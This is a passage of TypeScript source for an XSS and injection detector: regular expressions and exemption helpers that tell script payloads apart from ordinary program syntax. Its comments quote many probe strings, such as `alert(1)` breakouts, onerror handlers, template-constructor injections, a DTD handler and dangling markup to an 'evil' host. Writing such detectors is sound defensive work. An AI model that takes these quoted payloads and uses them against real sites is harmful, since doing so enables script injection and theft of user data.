  // `#javascript:;`, nor a hashtag then prose, `#javascript: (part 1)`)
  // (thirtieth round: nor a style sheet's attribute selector, `a[href^="javascript:"]:after`, as print style sheets have it)
  /(?:^|[\s"'`=(;:>,?<\u201c\u201d\u2018\u2019])(?:javascript|vbscript|livescript)\s*:(?!["']\s{0,4}(?:[is]\s{0,4})?\])[ \t\ufeff]*(?:(?<![ \t\ufeff])<|[^\s\w<]|[\w$.]{1,40}\s*[.(=`[]|\/\/|\/\*)|[[#/](?:javascript|vbscript|livescript)\s*:(?!\s*(?:void\s*\(?\s*0\s*\)?\s*;?|;)\s*(?:[\])"'\s]|$))[\t\ufeff]*(?:[^\s\w]|[\w$.]{1,40}\s*[.(=`[]|\/\/|\/\*)/,
  /^\s*data\s*:\s*text\/html\b|^\s*data\s*:[^,]{0,60};base64,\s*pd9|^\s*data\s*:[^,]{0,40},\s*<\s*script/,
  // " onmouseover=   "/onload=   "autofocus onfocus=   " x=y onclick=   ” onfocus=
  new RegExp(`['"\`\u201c\u201d\u2018\u2019]\\s*(?:\\/\\s*|\\+)?on(?:${HANDLERS})\\s*=`),
  new RegExp(`['"\`\u201c\u201d][\\s/]{0,3}[a-z-]{1,20}(?:\\s*=\\s*\\S{0,30})?[\\s/]{1,3}on(?:${HANDLERS})\\s*=`),
  // (a function after a quote and a comma is every callback in JavaScript code: `app.get('/', function (req, res) {`;
  // it is a breakout when its body calls a script sink)
  sinkOnly(/['"`\u2018\u2019\u201c\u201d](?:\s{0,4}[;)+|&,/*\]}-]){1,4}\s*(?:(?:(?:top|window|self|parent|frames|globalthis)\s*\.\s*(?=(?:alert|prompt|confirm|eval)\b))?(?:alert|prompt|confirm|eval|settimeout|setinterval|fetch|import)\s*[(`]|(?:top|window|self|this)\s*\[|function\s*\w{0,30}\s*\([^()]{0,40}\)\s*\{[^{}]{0,200}?\b(?:alert|prompt|confirm|eval|fetch)\s*[(`])/),
  // (forty-ninth round) a string context's splice around a sink: a literal closed, an operator, the sink called, an operator, a literal
  // opened for the page's own closing quote (`'te' % alert('%') % 'xt';`, `'te' == alert(1) == 'xt'`, `'te' ? alert(1) : 'xt'`), any
  // operator JavaScript reads there, blanks or not: no program splices a sink's call between two literals of one quote
  sinkOnly(/(['"`])\s{0,4}(?:[-+*/%^|&<>=!?:~,]{1,3}|\b(?:instanceof|in)\b)\s{0,4}(?:alert|prompt|confirm|eval)\s{0,4}\([^()]{0,40}\)\s{0,4}(?:[-+*/%^|&<>=!?:~,]{1,3}|\b(?:instanceof|in)\b)\s{0,4}\1/),
  sinkOnly(/\b(?:document\s*\.\s*(?:cookie|domain|write\s*\(|location\s*=)|window\s*\.\s*location\s*=|location\s*\.\s*(?:hash|search|href)\s*\.\s*slice\b|string\s*\.\s*fromcharcode\s*\(\s*\d{2,3}\s*,|\.innerhtml\s*=|activexobject\s*\()/),
  /\{\{\s*constructor\s*\.\s*constructor\s*\(|\{\{[^{}]{0,80}\$on\s*\.\s*constructor|\bng-app\b[^>]{0,200}\{\{|\bconstructor\s*\.\s*constructor\s*\(/,
  /expression\s*\(\s*(?:alert|prompt|confirm|eval|document|window|write)|\+adw-(?:script|img|svg|iframe)/,
  // (twenty-third round) a handler written as another attribute's value, for a parser that reads it again (`<time datetime=onload=alert(1)>`),
  // and a sink handed to Reflect.apply
  /<[a-z][\w:-]{0,20}\s[^<>]{0,200}?=\s{0,4}['"]?on[a-z]{3,30}\s{0,4}=\s{0,4}['"]?[^<>\s]{0,40}?\b(?:alert|prompt|confirm|eval)\s{0,4}[(`]|\breflect\s{0,4}\.\s{0,4}apply\s{0,4}\(\s{0,4}(?:alert|prompt|confirm|eval)\b/,
  // a script sink on its own, or after a statement ends (a value reflected into a script):
  // alert(1)  }alert(1);{//  prompt`1`  top['al'+'ert'](1)  a=eval;b=alert  eval(name)
  // (forty-third round: `prompt` assigned counts where the name is used again after it, `a=prompt,a(1)`, or thrown to, or where it is a
  // handler, a conversion or a thenable's `then` — not Python's keyword argument, `contents=prompt,`, a language model's notebook handing
  // it its prompt; third review: `eval`, `alert` and `confirm` assigned count as before, wherever the name goes next — `x/**/=eval`, `ä=eval`,
  // a use 400 characters on)
  // (thirty-ninth round: or inside an expression there, an operand, an argument or a property's value, `1,alert(1)`,
  // `x.isIntersecting&&alert(1)`, `BigInt(alert(1)||1n)`, `{cause:alert(1)}`, `innerHTML+=alert(1)`, given a probe's argument — a
  // number, the page's domain or cookie, a pattern (fifth review: not nothing, `leave=confirm();`); review: not a static method, `Log::alert('disk full')`, nor a word,
  // `Status:alert(firing)`, `err&&alert(err.message)`; forty-fourth round: nor a method called through PHP's or Perl's `->`,
  // `$this->io->confirm('Proceed?', false)`, which no script parses — `x-->alert(1)` is still one, a decrement compared)
  sinkOnly(/(?:^|[;{})\]>]\s*)[\w$.[\]'"+,|&:?(=]{0,40}?(?<!::)\b(?:alert|prompt|confirm)\s*\(\s*(?:\d{1,10}|(?:document|window|self|top)\s*\.\s*(?:domain|cookie|origin|location)|\/[^/\n]{1,40}\/)\s*\)/),
  sinkOnly(/(?:^|[;{})\]]\s*|(?<![\w)\]]-)>\s*)[\w$.[\]'"+]{0,40}?\b(?:alert|prompt|confirm)\s*(?:\(\s*[^()]{0,40}\)|`[^`]{0,40}`)|^\s*(?:alert|prompt|confirm)\s*[(`]|^\s*(?:top|window|self|this|parent|frames|globalthis)\s*\[\s*['"`][^\]]{1,40}\]\s*(?:\(|`|\.\s*(?:call|apply)\s*\()|\[\s*(?:alert|prompt|confirm|eval)\s*\]\s*\[\s*0\s*\]\s*\.\s*(?:call|apply)\s*\(|=\s*(?:eval|alert|confirm)\s*[;,}]|([\w$]{1,40})\s*=\s*prompt\s*[;,}][\s\S]{0,400}?(?:(?<![\w$])\1(?![\w$])|\bthrow\b)|\b(?:on[a-z]{3,30}|tostring|valueof|then)\s*=\s*prompt\s*[;,})]|\bimport\s*\(\s*['"`]\s*data\s*:|\beval\s*\(\s*(?:name|location|url|document|window|atob|unescape|decodeuri\w*|[a-z]{1,3}(?:\s*\+\s*[a-z]{1,3}){2,}\s*\))|__proto__\s*\.\s*\w{0,20}\s*=\s*(?:alert|eval)\b|createelement\s*\(\s*['"]script|\bdata:[^,]{0,100}base64[^,]{0,10},\s*(?:phnjcmlwd|phn2zy|pd9)/),
  // a sink called as the operand of a unary keyword or of `in`: throw alert(1)  typeof~delete~typeof~alert(1)  x in alert(1)
  sinkOnly(/\b(?:throw|delete|void|typeof|in)[\s~!+-]{1,4}(?:(?:delete|void|typeof)[\s~!+-]{1,4}){0,3}(?:alert|prompt|confirm)\s*(?:\(\s*[^()]{0,40}\)|`[^`]{0,40}`)/),
  // (twenty-fifth round: after a query's `?` or `&`, a `+` for a blank, a property's `.` or `[` too: `input?onfocus=alert(1)`, `x.onfocus='alert(1)'`, `'input'[onfocus]=alert(1)`)
  new RegExp(`(?:^|[\\s"'(/;?&+.[])on(?:${HANDLERS})\\]?\\s*=\\s*['"]?[\\s(]{0,4}(?:alert|prompt|confirm|eval|javascript:)`),
  // (twenty-fifth round) a dialog called from a tag's attribute value, whatever the attribute (`<img src=x:confirm(448)>`), and a URL's
  // parameter handed one (a JSONP callback, `…/revoke?callback=alert(1337)`, `video-js.swf?readyFunction=alert(1)`)
  // (review: the call ending the value, no blank before its parenthesis: not words in a page's own attribute, `content="confirm (or
  // cancel) your booking"`, `title="prompt(s) for the model"`, nor a file's name, `src="/icons/alert (1).png"`, `?file=confirm(2).pdf`)
  /<[a-z][\w:-]{0,20}\s[^<>]{0,200}?=\s{0,4}(['"]?)[^<>\s'"]{0,40}?\b(?:alert|prompt|confirm)(?:\([^()<>]{0,40}\)|`[^`<>]{0,40}`)\1(?:[\s/\\<>;]|$)|[?&][\w.-]{1,30}=\s{0,4}(?:alert|prompt|confirm)(?:\([^()<>]{0,40}(?:\)(?:[\s&#;'"<>/\\]|$)|$)|`[^`<>]{0,40}`)/,
  // a handler's name and a script sink inside one tag, whatever the attribute syntax in between:
  // <img src onerror /" '"= alt=alert(1)//>
  new RegExp(`<[a-z][^<>]{0,200}?[\\s/"'\`]on(?:${HANDLERS})\\b[^<>]{0,100}?\\b(?:alert|prompt|confirm|eval)\\s*[(\`]`),
  // a sink called after an expression, in a list of them: ….match(/.*/m),alert(RegExp.input)
  sinkOnly(/\)\s{0,10},\s{0,10}(?:alert|prompt|confirm)\s*\(\s*[^()]{0,40}\)/),
  // a sink called through call/apply/bind or optional chaining (alert.call(null,1), alert?.(1)), handed to an
  // array's method or a template as a callback ([1].map(confirm), .sort.call`${alert}1337`; fifty-seventh round, the spent
  // hundred-and-thirty-sixth part's shell scripts: not a shell's quoted `"${CONFIRM}"`, but a quote after a backtick on its line; review:
  // a template's backtick any distance before, `.sort.call`aaaa…${alert}1337``)
  sinkOnly(/\b(?:alert|prompt|confirm)\s*(?:\.\s*(?:call|apply|bind)\s*[(`]|\?\.\s*\()|\.\s*(?:map|find|findindex|findlast|findlastindex|flatmap|reduce|reduceright|filter|foreach|some|every|sort|then|with|group|groupby|tosorted)\s*\((?:[^()]{0,20},\s*)?(?:alert|prompt|confirm|eval)\s*[,)(]|(?<!["'])\$\{\s*(?:alert|prompt|confirm|eval)\s*\}|`[^`\n]{0,200}?["']\$\{\s*(?:alert|prompt|confirm|eval)\s*\}/),
  // code handed to an evaluator as a string (eval('alert(1)'), setTimeout`alert(23)`), a sink in parentheses
  // called ((alert)()), a framework's handler shorthand (<x @click=$event.view.alert(1)>), a template's
  // constructor reached from any object ({{$new.constructor('alert(1)')()}}, {{_Vue.h.constructor`alert(1)`()}})
  /\b(?:eval|globaleval|execscript|settimeout|setinterval|function)\s*(?:\(\s*)?['"`][^'"`]{0,80}\b(?:alert|prompt|confirm)\s*[(`]|\(\s*(?:alert|prompt|confirm)\s*\)\s*[(`]|<[a-z][^<>]{0,200}?\s@[a-z]{2,20}\s*=\s*[^<>]{0,100}?\b(?:alert|prompt|confirm|eval)\s*[(`]|\{\{[^{}]{0,80}?\.\s*constructor\s*[(`]\s*['"`]?[^'"`{}]{0,80}\b(?:alert|prompt|confirm|eval)\b/,
  // a value that is a handler running code (onload=function(){…}, onfocus=;write(cookie))
  new RegExp(`^\\s*on(?:${HANDLERS})\\s*=[^\\n]{0,200}?[(\`]`),
  // a DTD giving every element a handler by default: <!ATTLIST img onerror CDATA "alert(1)">;
  // a JavaScript entity assigned (the XSS locator's =&{()})
  /<!attlist\b[^>]{0,300}?\bon[a-z]{3,30}\s+cdata\s+['"]|=&\{[^{}]{0,40}\}/,
  XSS_SINK_WAYS,
  XSS_MARKUP_WAYS,
  // (twenty-first round) a sink called right after what closes a comment, a regular expression or a string in script (`/alert(25)//`,
  // `*/alert(1)`, `-alert(23)/`, `#alert(1)`), a sink assigned in a call's arguments (`window[Symbol['split']]=alert)`), a window
  // handler given a sink (`onhashchange=setTimeout;`), an error handler destructured from a sink (`var{a:onerror}={a:alert};throw 1`)
  // (forty-third round: not Python's keyword argument on a line of its own handed `prompt`, `    input=prompt⏎)`, which PROMPT_ARGUMENT
  // renames first)
  sinkOnly(/^\s{0,4}(?:\*\/|[/#-])(?:alert|prompt|confirm)\s{0,4}\(\s{0,4}(?:\d{1,10}|['"`][^'"`\n]{0,40}['"`]|(?:document|window|self|top)\s{0,4}\.\s{0,4}(?:domain|cookie|origin|location))?\s{0,4}\)|=\s{0,4}(?:alert|prompt|confirm|eval)\s{0,4}\)|(?:^|[;\s])on[a-z]{3,30}\s{0,4}=\s{0,4}(?:settimeout|setinterval|eval|alert|prompt|confirm)\s{0,4}(?:[;,)]|$)|\bonerror\s{0,4}\}\s{0,4}=\s{0,4}\{[^{}]{0,40}:\s{0,4}(?:alert|prompt|confirm|eval)\b/),
  // (thirty-ninth round) htmx's values evaluated as script in a tag (`<button hx-post="/x" hx-vals='js:{x: alert(1)}'>`), and a PDF's
  // action that runs its JavaScript (`/OpenAction<</S/JavaScript/JS(app.alert(1))>>`)
  // (review: calling a sink, as a handler's value is read — htmx's own examples, `hx-vals='js:{lastKey: event.key}'`, are none; fifth review:
  // `atob` and `fetch` are none either, and a PDF form's own `app.alert('Please fill in…')` and `this.submitForm(…)` are its validation: a
  // probe's `app.alert(1)` only)
  /<[a-z][\w:-]{0,20}\s[^<>]{0,200}?\bhx-(?:vals|vars|headers|request)\s{0,4}=\s{0,4}['"]?\s{0,4}(?:js|javascript)\s{0,4}:[^<>]{0,200}?\b(?:alert|prompt|confirm|eval|settimeout|setinterval)\s{0,4}[(`]|\/s\s{0,4}\/javascript\s{0,4}\/js\s{0,4}\([^)]{0,200}?\bapp\s{0,4}\.\s{0,4}alert\s{0,4}\(\s{0,4}\d{1,10}\s{0,4}\)/,
  // (twentieth round) a sink taken out of an array literal by its index and called: [1,alert,1][1](1), x=[/&/,alert,/&/][1],x(1)
  sinkOnly(/\[[^[\]]{0,60}[,[]\s{0,4}(?:alert|prompt|confirm|eval)\s{0,4}[,\]][^[\]]{0,60}\]\s{0,4}\[\s{0,4}\d{1,3}\s{0,4}\]/),
  // (nineteenth round) markup that takes the page elsewhere or loads from another site — a refresh, a policy or a cookie by
  // <meta>, a form posting to another host, an object's data from one, jQuery's script loader — and a probe's own tag
  // (`<xss_test>`): not in a program's source, whose templates write such markup.
  // (review of the nineteenth round, by kind: a form whose first field is named posts data as a site's embedded sign-up or payment form does — the injected
  // one carries a bare button; an object declaring its media type is an embed (`type="application/pdf"`; the types that
  // run script are judged above); a script loaded by a path on the same site, or whose loading the code waits for (a
  // callback, `.done(`), is a page's own code)
  // (thirty-eighth round: nor a refresh to a path on the same site, its only attributes, as a static site's page that moved writes it,
  // `<meta http-equiv="refresh" content="0; url=/contributing/">`: the browser stays on the site, and no reference, blank or `\`
  // in the address can make it another host's)
  // (fifty-fourth round's review, in Chromium: a policy meta reflected into a page's head applies — `script-src 'none'` stops the
  // site's scripts, `script-src 'self'` quietly its inline ones — and a whole page's own head is the same string as an injection
  // into a head attribute or a title (`"><meta http-equiv="Content-Security-Policy" content="script-src 'none'"></head>`): a
  // policy closed by `</head>` in the value, the nineteenth round's exemption, is read again)
  sinkOnly(new RegExp(String.raw`<meta\b(?!${SITE_REFRESH})[^>]{0,200}?\bhttp-equiv\s*=\s*['"]?(?:refresh\b|set-cookie\b|content-security-policy\b)`)),
  sinkOnly(/<xss\w{1,20}[\s/>]|<form\b[^>]{0,200}?\baction\s*=\s*['"]?(?:https?:)?\/\/[^>]{0,400}?>[^<]{0,200}<(?:input|button)\b(?![^<>]{0,200}?\bname\s*=)|<object\b(?![^<>]{0,400}?\btype\s*=)[^>]{0,200}?\bdata\s*=\s*['"]?(?:https?:)?\/\/|\$\s*\.\s*getscript\s*\((?!\s{0,4}['"`](?!(?:https?:)?\/\/))(?![^()]{0,300}?,\s{0,4}(?:function\b|\(|[a-z_$][\w$]{0,30}\s{0,4}=>)|[^()]{0,300}\)\s{0,4}\.\s{0,4}(?:done|then|fail|always)\s{0,4}\()/),
]
const XSS_MARKUP = XSS.filter((re) => !XSS_SINK_ONLY.has(re))
const TAG_PLACEHOLDER = /(['"])<[a-z][\w-]{0,30}>\1/g
/**
 * (forty-third round's review) Python's keyword argument on a line of its own, handed a variable named `prompt` (`    input=prompt⏎)`,
 * a language model's notebook): not the dialog function handed to a call. Only `prompt`, whose reference shows a dialog at most — a script
 * handed `eval` or `alert` so is still read, and so is `prompt` anywhere else.
 */
// (third review: inside an argument list only, the next line closing it or handing another argument, `    config=…`; not a statement)
const PROMPT_ARGUMENT = /(?<=\n[ \t]{1,40}[a-z_]\w{0,40}[ \t]{0,4})=[ \t]{0,4}prompt(?=[ \t]{0,4},?[ \t]*\n[ \t]{0,40}(?:\)|[a-z_]\w{0,40}[ \t]{0,4}=[^=]))/g
/**
 * (twenty-seventh round) a tag named in prose, its name then the word tag or element (`included by the theme, as <script> tags`):
 * no attribute but a `type`, so no handler or source hides behind it
 */
const TAG_NAMED = /<[a-z][a-z0-9-]{0,20}(?:[ \t]{1,4}type[ \t]?=[ \t]?['"]?[\w/-]{1,30}['"]?)?>(?=[ \t]{1,4}(?:tags?|elements?)\b)/g
/**
 * A workflow runner's expression (`${{ env.LABEL }}`, `${{ matrix.os || 'ubuntu-latest' }}`), replaced before the step runs (none of a shell's
 * or a page's other metacharacters); (twenty-ninth round) over lines too, as a block scalar writes a long one (`${{⏎ hashFiles(⏎ 'setup.cfg' ) }}`),
 * where it opens on a context's name or a function's call (review: not `${{⏎' or 1=1 --⏎}}`, `${{⏎../../etc/passwd⏎}}` in a body shaped like a workflow)
 */
const RUNNER_EXPRESSIONS = /\$\{\{(?:[^{}\n;|&`<>$]|\|\||&&){0,300}\}\}|\$\{\{\s{0,40}[a-z_][\w-]{0,40}(?:\.[\w*-]{1,40}|\s{0,4}\()(?:[^{};|&`<>$]|\|\||&&){0,300}\}\}/gi
/** (thirteenth round) in a program, a `<` right after a name: a type's arguments (`Pin<&mut Self>`, `Result<Frame<T>>`) or a comparison */
// (thirty-third round: and Rust's turbofish, `AttributeValue::<Handler>::from_value`)
// (review: after `::` only a short type list closed by `>`, no element's name: `a::<iframe src=…>` is markup)
const TYPE_ARGUMENTS = /(?<=[\w$])<(?=[a-z_&])|(?<=::)<(?=(?!(?:style|script|iframe|base|embed|link|meta|object|a|img|svg|form|frame|frameset|applet|math|input|button|video|audio|details|body|html|template|xmp|noscript|textarea|image|marquee|isindex|select|option|keygen|portal|animate|set)\b)[a-z_&][\w:]{0,60}(?:<[^<>\n]{0,60}>)?[\w:]{0,20}>)/g
/** (fifteenth round) in a program, a line that is a condition (`if …`, `} else if …`, `while …`, `return …`; eighteenth round: Ruby's and Perl's modifiers, `next unless a && b`), and its logical operators */
// (forty-first round: and a clause's guard, ending on `->` — Elixir's `cond`, Erlang's, Haskell's case arms; a shell reads a line ending on `->`
// as a syntax error, and runs none of it; and a C-family `case …:` label, `case wc >= 0xD800 && wc <= 0xDBFF:` — a shell's `case` wants `in`)
const CONDITION_LINE = /^[ \t]{0,40}(?:\}[ \t]{0,4})?(?:if|else[ \t]{1,4}if|elif|while|until|unless|return)\b[^\n]{0,400}$|^[^\n]{0,200}\b(?:unless|if)\b[^\n]{0,200}$|^[^\n]{0,400}[ \t]->[ \t]*$|^[ \t]{0,40}case[ \t][^\n]{0,400}:[ \t]*$/gm
const LOGICAL = /&&|\|\|/g
/** (twenty-eighth round) `||` or `&&` before a sigil variable or Perl's `ref` (`ref($proto) || $proto`, `$a && $b`) */
const SIGIL_LOGIC = /(?:\|\||&&)(?=[ \t]{0,4}(?:[$@%]\{?[a-z_]|ref\b))/g
/** (twenty-eighth round) Perl's code reference called or tested (`goto &$sub`, `defined &$AUTOLOAD`, `\&$name`, `exists &{$field}`) */
const CODE_REFERENCE = /(?<=[\s\\(!,=])&(?=\$[\w:]|\{[ \t]{0,4}\$)/g
/** (eighteenth round) a `#` comment line: `#` then a blank or the line's end (not `#include`, `#!`) */
const HASH_COMMENT_LINE = /^[ \t]{0,40}#(?:[ \t][^\n]{0,400})?$/gm

/** (twenty-sixth round) a C-style `for` loop's header: three clauses parted by `;` inside its parentheses, on one line (review: with no backtick, a command substituted) */
const C_FOR_HEADER = /\bfor[ \t]{0,4}\((?!\()[^;()\n`]{0,200};[^;()\n`]{0,200}(?:\([^;()\n`]{0,60}\)[^;()\n`]{0,100})?;[^;()\n`]{0,200}(?:\([^;()\n`]{0,60}\)[^;()\n`]{0,100})?\)/g
/** (forty-second round) what only a Rust macro's definition writes: `macro_rules!`, `$crate::`, a rule's matcher line `(@array [$($e:expr),*]) => {` */
// (review: not on a shell's comment line, `# $crate::m`)
const RUST_MACRO = /(?:^|\n)(?:[ \t]{0,40}[^#\s][^\n]{0,400}?)?(?:macro_rules!|\$crate::)|(?:^|\n)[ \t]{0,40}\([^\n]{0,200}\)[ \t]{0,4}=>[ \t]{0,4}\{[ \t]*(?=\n|$)/
/** (forty-second round) a Rust macro's repetition of one metavariable and its fragment, a separator inside or after it (`$($x:expr),*`) */
const RUST_REPETITION = /\$\([ \t]{0,4}\$([a-z_]\w{0,40})(?::[a-z]{2,9})?[ \t]{0,4}[,;]?[ \t]{0,4}\)[ \t]{0,4}[,;]?[ \t]{0,4}[*+?]/g
/** a macro's metavariable declared with one of Rust's fragment specifiers (`$body:tt`, `$elems:expr`), its name captured */
const METAVARIABLE = /\$([a-z_]\w{0,40}):(?:expr|ident|tt|ty|pat|pat_param|path|block|stmt|item|literal|lifetime|meta|vis)\b/g
/** what binds a shell variable: an assignment (after `export`, `local`…), a `for`/`select` loop, `read`, `mapfile`, `getopts` */
const SHELL_BINDING = /(?:^|[^\w$])([a-z_]\w{0,40})\+?=|\b(?:for|select)[ \t]{1,4}([a-z_]\w{0,40})\b|\b(?:read|mapfile|readarray|getopts|printf[ \t]{1,4}-v)\b/g
/**
 * A value's Rust macro repetitions renamed where their metavariable is declared in it and nothing there could bind it as a shell's variable.
 * The value's declarations and bindings are read once (at most 256 of each), not once a repetition: a value of thousands of them stays
 * linear.
 */
function macroRepetitions(v: string): string {
  const declared = new Set<string>()
  METAVARIABLE.lastIndex = 0
  for (let d = METAVARIABLE.exec(v), n = 0; d !== null && n < 256; d = METAVARIABLE.exec(v), n++) declared.add(d[1]!)
  if (declared.size === 0) return v
  const bound = new Set<string>()
  SHELL_BINDING.lastIndex = 0
  for (let b = SHELL_BINDING.exec(v), n = 0; b !== null && n < 256; b = SHELL_BINDING.exec(v), n++) {
    // `read`, `mapfile`, `getopts`: any name may be bound
    if (b[1] === undefined && b[2] === undefined) return v
    bound.add((b[1] ?? b[2])!)
  }
  return v.replace(RUST_REPETITION, (m, name: string) => (declared.has(name) && !bound.has(name) ? 'rep' : m))
}
/** (thirteenth round) in a program, `&` before a name that is a call's argument: C's, Go's and Rust's address-of */
const ADDRESS_OF = /(?<=[(,][ \t]{0,4})&(?=(?:mut[ \t]{1,4})?[\w.]{1,60}[ \t]{0,4}[),])/g
/**
 * (thirty-second round) or a name assigned or returned whole, `categoryID = &id`, `vars["last"] = &last`, `return &id, nil`
 * (review: only in a program that shows it is Go's, Rust's or C's — a `:=`, a `func`/`fn`/`impl` line, a typed declaration —, not in
 * `export` lines' dressing around `return &id`)
 */
const ADDRESS_ASSIGNED = /(?<=(?:=|\breturn)[ \t]{0,4})&(?=(?:mut[ \t]{1,4})?[\w.]{1,60}[ \t]{0,4}(?:[),;\n]|$))/g
// (forty-first round: and a C++ member's definition, `void cruleengine::clearallrules() {`, a declaration aligned to a column; forty-second
// round: and a C or C++ file's `#include "…"` or `#include <…>` line, a C++ `namespace yaml {` or an access specifier's line, `public:`)
const C_FAMILY = /:=|(?:^|\n)[ \t]{0,40}(?:#include[ \t]{0,4}["<]|namespace[ \t]{1,4}[a-z_]\w{0,60}[ \t]{0,4}\{|(?:public|private|protected):[ \t]*(?=\n)|(?:func|fn|pub[ \t]{1,4}fn|impl)\b|(?:static[ \t]{1,4})?(?:void|int|char|bool|size_t)[ \t]{1,40}\*?[a-z_]\w{0,40}(?:::~?[a-z_]\w{0,40}){0,3}[ \t]{0,4}[(=;])/
/**
 * (forty-first round) A line of such a program that opens a parenthesised list after a name (a signature, a call, a C++ range `for`):
 * what is inside is parameters and arguments (a shell reads `f (…` as a syntax error; `if (`, `while (` and the shell's other words
 * that open a subshell are none, SHELL_WORD_PAREN)
 */
// (review: its head unquoted and plain, names, types and blanks — a quoted `(`, `127.0.0.1 'f('T& id;`, opens no list, and the line runs)
// (a method's call, `dirs.sort_unstable_by(`, `versions_->set(`, is one too: a word glued to `(` is a syntax error whatever its dots)
// (forty-second round: and a C++ operator's, `Emitter& operator<<(Emitter& out, const Node& node) {`: bash and dash read no `&` inside its
// list as a background job, whatever the symbol — a syntax error, an array assignment's words (`operator=(`) or an extglob pattern
// (`operator!(`, bash with extglob on), checked one by one; not `operator<(` or `operator>(`, a process substitution, nor `|`, `&`, `()`)
const SIGNATURE_LINE = /^([ \t]{0,40}[\w:<>,*& ~.-]{0,200}(?:\boperator[ \t]{0,4}(?:<<=?|>>=?|[=!<>]=|[-+*/%^]=?|[!~=])|\w)[ \t]{0,4}\()([^\n]{0,400})$/gm
const SHELL_WORD_PAREN = /(?:^|[^\w])(?:if|elif|while|until|then|do|else|time|coproc|in)[ \t]{0,4}\($/
/** in it, Rust's reference types: a parameter's (`lua: &lua)`, `_: &'a mut t,`), a closure's (`|dir1: &dir, dir2: &dir|`) */
const RUST_REFERENCE = /&(?<=(?:^|[(,|])[ \t]{0,4}(?:mut[ \t]{1,4})?[a-z_]\w{0,40}[ \t]{0,4}:[ \t]{0,4}&)(?=(?:'[a-z_]\w{0,20}[ \t]{1,4})?(?:mut[ \t]{1,4}|dyn[ \t]{1,4})?[a-z_][\w:]{0,60}(?:<[^<>\n]{0,80}>)?[ \t]{0,4}[),>|])/g
/** and C++'s reference declarators, glued to their type (`const workspaceid& id)`, `auto const& sh :`, `std::string& s,`) */
const CPP_REFERENCE = /(?<=[\w>])&(?=[ \t]{1,4}[a-z_]\w{0,40}[ \t]{0,4}[),:=;])/g
/**
 * A program's signature lines without their reference types' `&` (no background job), inside the list only: (review) after its closing
 * parenthesis a shell may run what follows (`operator=() true& id;`, an empty array assigned, then a job and a command).
 */
function withoutReferenceTypes(v: string): string {
  return v.replace(SIGNATURE_LINE, (line, head: string, rest: string) => {
    if (SHELL_WORD_PAREN.test(head)) return line
    const close = listEnd(rest)
    return head + rest.slice(0, close).replace(RUST_REFERENCE, '').replace(CPP_REFERENCE, '') + rest.slice(close)
  })
}
/** Where the parenthesised list a line's text continues ends: after its closing `)` (nested ones counted), or at the text's end. */
function listEnd(rest: string): number {
  let depth = 1
  for (let i = 0; i < rest.length; i++) {
    const c = rest.charCodeAt(i)
    if (c === 40) depth++
    else if (c === 41 && --depth === 0) return i + 1
  }
  return rest.length
}
/** (thirty-second round) Go's loop header: three clauses parted by `;` with no parentheses, the block opened on its line (`for i := 0; i < len(a); i++ {`) */
// (review: Go-shaped clauses only, a declaration or an assignment, a comparison of names and calls, a step: not `for x; curl …; sh /tmp/s {`)
// (forty-third round: a condition that is one name, and a step that assigns again, `for f, more := frames.Next(); more; f, more =
// frames.Next() {` — a header no shell parses: `for` takes a name then `in` or `do`, so nothing on its line runs there; review: not after a
// line continued by `\`, where `for` is an argument and what follows `;` runs)
const GO_FOR_HEADER = /(?<=^|(?<!\\)\n)[ \t]{0,40}for[ \t]{1,4}[a-z_]\w{0,30}(?:[ \t]{0,4},[ \t]{0,4}[a-z_]\w{0,30})?[ \t]{0,4}:?=[ \t]{0,4}[\w.()[\], +*-]{1,100};[ \t]{0,4}!?[a-z_][\w.]{0,40}(?:[ \t]{0,4}(?:<=?|>=?|!=|==)[ \t]{0,4}[\w.()[\], +*-]{1,100})?;[ \t]{0,4}[a-z_][\w.]{0,40}(?:[ \t]{0,4},[ \t]{0,4}[a-z_]\w{0,30})?[ \t]{0,4}(?:\+\+|--|[-+*/]?=[ \t]{0,4}[\w.()[\], +*-]{1,60})[ \t]{0,4}\{[ \t]*(?=\n|$)/g
// (thirty-first round: or a ternary or a condition of names, `onClick={open ? close : undefined}`, or a helper's call reaching no sink,
// `onClick={composeEventHandlers(rest.onClick, handle)}`; thirty-third round: a Rust reference to a field in Yew's `html!`, `onclick={&props.onclick}`;
// thirty-fourth round: the condition a comparison with a name or a word's literal, `onClick={task.State == 'Running' ? stop : start}`;
// review: a name, a condition or a call closed by its brace where the attribute ends, nothing glued after it, `onerror={a?a:a}setTimeout(name)`)
const JSX_HANDLER = /\bon(?=[a-z]{3,30}\s{0,4}=\s{0,4}\{\s{0,4}(?:&?[\w$.]{1,60}\s{0,4}\}(?=[\s/>]|$)|(?:async\s{1,4})?(?:\([\w$,\s]{0,60}\)|[\w$]{1,30})\s{0,4}=>|function\b|(?![^}]{0,130}?\b(?:alert|prompt|confirm|eval|fetch|atob|print|open|location|document|window|top|parent|reflect|navigator|constructor|function)\b)[\w$.!]{1,60}(?:\s{0,4}[!=]==?\s{0,4}(?:'[\w -]{0,30}'|"[\w -]{0,30}"|[\w$.]{1,60}))?\s{0,4}(?:\?|&&|\|\|)\s{0,4}[\w$.]{1,60}(?:\s{0,4}:\s{0,4}[\w$.]{1,60})?\s{0,4}\}(?=[\s/>]|$)|(?!(?:alert|prompt|confirm|eval|fetch|atob|settimeout|setinterval|import|window|document|top|parent|self|globalthis|print|open|location|reflect|navigator|function|constructor)\b)[\w$]{1,40}\s{0,4}\((?![^{}]{0,200}?\b(?:alert|prompt|confirm|eval|fetch|atob|document|location|print|open|window|reflect|navigator|constructor|function)\b)(?=[^{}]{0,200}(?:\{[^{}]{0,200}\}[^{}]{0,200})?\}(?:[\s/>]|$))))/g
// (twenty-third round: a triple-quoted one still open where the value ends, a snippet cut inside the page a program writes)
const MULTILINE_LITERALS = /@"(?:[^"]|""){0,8000}"|"""(?:[^"]|"(?!"")){0,8000}(?:"""|$)|'''(?:[^']|'(?!'')){0,8000}(?:'''|$)|`[^`]{0,8000}`/g
/** (twenty-third round) Elixir's sigils delimited by `|` (`~S|defmodule App do|`, `~r|^/api|`): a literal, its bars no pipes */
const BAR_SIGIL = /~[a-z]\|[^|\n]{0,400}\|/gi
/**
 * Dangling markup: a tag's URL attribute left open at the value's end, to another host (<img src="//evil?);
 * not in a Markdown page, whose last link is cut where the page was (`<a class="button" href="https://tidelift.c`).
 */
const DANGLING = /<[a-z][a-z0-9]{0,20}\b[^<>]{0,200}?\b(?:src|href|action|data|background|poster)\s*=\s*["'](?:https?:)?\/\/[^"'\s<>]{1,200}$/
/**
 * (twenty-ninth round) A page or a post cut where its text was (an excerpt's `…<a href="https://dioxus.notion.site/Dioxus-Labs-High-lev`):
